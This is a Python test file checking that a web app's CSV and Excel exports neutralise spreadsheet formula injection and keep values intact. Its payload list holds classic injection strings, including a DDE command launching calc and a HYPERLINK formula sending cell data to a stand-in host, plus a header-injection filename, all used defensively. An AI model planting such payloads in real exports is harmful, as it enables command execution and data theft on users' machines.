"""Exports: nothing in them may run in a spreadsheet, and nothing may be lost."""

import csv
import io
import unicodedata
from datetime import UTC, date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from flask import Flask
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from blueprints.kit.tables_out import EXCEL_CELL, csv_bytes, csv_response, raw_text, safe_text, xlsx_response

LONDON = ZoneInfo("Europe/London")
BODIES = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"click")',
    "SUM(1,2)*cmd|' /C calc'!A0",
    "2+5",
    "@A1",
    "",
    " ",
    "\n=1",
]
LEADS = [
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\u00a0",
    "\ufeff",
    "\u200b",
    "\u3000",
    "\x00",
    "\x1f",
    "x;",
    "x; ",
    "x\t",
    "x\n",
    "x\r",
    "x\u2028;",
    "x\n\"",
    "x;\u200b",
    "x\n\ufeff\" ",
]
SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦"]
PAYLOADS = [lead + sign + body for lead in LEADS for sign in SIGNS for body in BODIES]


def live(cell):
    """Whether a spreadsheet could take the text of a cell for a formula."""
    if cell.startswith(("\t", "\r", "\n")):
        return True
    visible = next((c for c in cell if unicodedata.category(c)[0] not in "ZC"), "")
    return unicodedata.normalize("NFKC", visible)[:1] in ("=", "+", "-", "@") and visible != ""


def cells_of(text, delimiter):
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def answer(make, *args, **named):
    app = Flask("test")
    with app.test_request_context():
        response = make(*args, **named)
        response.direct_passthrough = False
        data = response.get_data()
        response.close()
        return response, data


def test_no_payload_is_live_in_a_csv():
    assert len(PAYLOADS) > 100
    for payload in PAYLOADS:
        data = csv_bytes([payload], [[payload, payload]]).decode("utf-8-sig")
        assert not [cell for cell in cells_of(data, ",") if live(cell)], repr(payload)


@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_no_payload_is_live_where_the_separator_is_another(delimiter):
    for payload in PAYLOADS:
        data = csv_bytes(["Reference", "Text"], [["I-1", payload]]).decode("utf-8-sig")
        found = [cell for cell in cells_of(data, delimiter) if live(cell) and not f"{cell} ".lstrip().startswith("- ")]
        assert not found, (payload, found)


@given(st.text())
@settings(max_examples=300)
def test_no_text_is_live(text):
    assert not live(safe_text(text))


@given(st.text(alphabet=st.characters(categories=["L", "N"], include_characters=" .,'\n")))
def test_harmless_text_comes_back_as_it_was(text):
    assert cells_of(csv_bytes(["T"], [[text, "end"]]).decode("utf-8-sig"), ",")[1:] == [safe_text(text), "end"]
    if text[:1] != "\n":
        assert safe_text(text) == text


def test_a_list_in_a_narrative_stays_a_list():
    text = "What I saw:\n- a bruise\n- a torn sleeve; he said: -"
    assert safe_text(text) == text


def test_csv_values():
    rows = [
        [
            1,
            -2.5,
            Decimal("-3.10"),
            True,
            None,
            date(2026, 7, 1),
            datetime(2026, 7, 1, 8, 40, tzinfo=UTC),
            float("nan"),
            'a "b", c',
        ]
    ]
    data = csv_bytes(["A"], rows, LONDON)
    assert data == '\ufeffA\r\n1,-2.5,-3.10,Yes,,2026-07-01,2026-07-01 09:40,nan,"a ""b"", c"\r\n'.encode()


def test_no_payload_is_live_in_a_workbook():
    response, data = answer(xlsx_response, "list.xlsx", PAYLOADS[:3], [[payload, payload] for payload in PAYLOADS])
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.max_row == len(PAYLOADS) + 1
    assert {cell.data_type for row in sheet for cell in row if cell.value is not None} == {"s"}


def test_workbook_values():
    rows = [
        [
            1,
            -2.5,
            Decimal("3.1"),
            True,
            None,
            date(2026, 7, 1),
            datetime(2026, 7, 1, 8, 40, tzinfo=UTC),
            "a\x00\x0bb\ud800",
            "#N/A",
            "=1",
            "x" * 100_000,
            "_x0041_",
        ]
    ]
    _, data = answer(xlsx_response, "list", ["=A"], rows, LONDON, sheet="a/b" * 20)
    header, row = load_workbook(io.BytesIO(data)).active.iter_rows()
    assert (header[0].value, header[0].data_type) == ("=A", "s")
    values = [cell.value for cell in row]
    assert values[:5] == [1, -2.5, 3.1, "Yes", None]
    assert [str(value) for value in values[5:7]] == ["2026-07-01 00:00:00", "2026-07-01 09:40:00"]
    assert values[7:10] == ["ab", "#N/A", "=1"] and row[8].data_type == row[9].data_type == "s"
    assert len(values[10]) == EXCEL_CELL and values[10].endswith("the CSV export has the whole text)")


@pytest.mark.parametrize(("make", "name"), [(csv_response, "x.csv"), (xlsx_response, "x.xlsx")])
def test_headers(make, name):
    response, data = answer(make, "../a\r\nX: 1/x", ["A"], iter([["ö"]]))
    assert response.headers["Content-Disposition"] == f"attachment; filename={name}"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Cache-Control"] == "no-store"
    assert response.content_length == len(data)


def test_a_failing_query_gives_no_file():
    def rows():
        yield ["one"]
        raise RuntimeError("the database went away")

    with pytest.raises(RuntimeError):
        answer(csv_response, "x", ["A"], rows())


@pytest.mark.parametrize("text", ["=1+1", "Ann; =1+1", ";=1", "'t Hooft", "O'Brien", "+44 1", "-", "plain", "", "''", "a\t@b", "'=1", "''=1", "''a"])
def test_a_cell_made_safe_reads_back_as_it_was(text):
    assert raw_text(safe_text(text)) == text
